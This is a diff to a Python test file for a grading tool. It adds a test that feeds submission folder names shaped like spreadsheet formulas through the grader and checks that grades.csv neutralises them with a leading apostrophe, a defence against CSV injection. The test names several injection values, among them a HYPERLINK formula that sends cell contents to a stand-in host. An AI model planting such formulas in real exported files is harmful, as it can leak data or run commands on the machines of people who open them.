@@ -115,3 +115,16 @@ def test_grade_command_end_to_end(tmp_path: Path) -> None:
     assert done.returncode == 0, done.stderr
     assert "graded 1 submissions x 2 exercises" in done.stdout
     assert (tmp_path / "out" / "feedback" / "ada.html").is_file()
+
+
+def test_a_submission_named_like_a_formula_reaches_grades_csv_as_text(tmp_path: Path) -> None:
+    """A folder's name is the learner's choice: a spreadsheet opening grades.csv must show it,
+    not run it (OWASP's CSV injection)."""
+    names = ['=HYPERLINK("x.example?"&A1,"open")', "+1+cmd", "@SUM(A1)", "-2+3"]
+    submissions, out = tmp_path / "submissions", tmp_path / "out"
+    for name in names:
+        (submissions / name).mkdir(parents=True)
+    write_all(grade(submissions, out, only=["ex01"], jobs=2, show_progress=False), out)
+    with (out / "grades.csv").open(encoding="utf-8", newline="") as handle:
+        sources = [row["source"] for row in csv.DictReader(handle)]
+    assert sorted(sources) == sorted("'" + name for name in names)
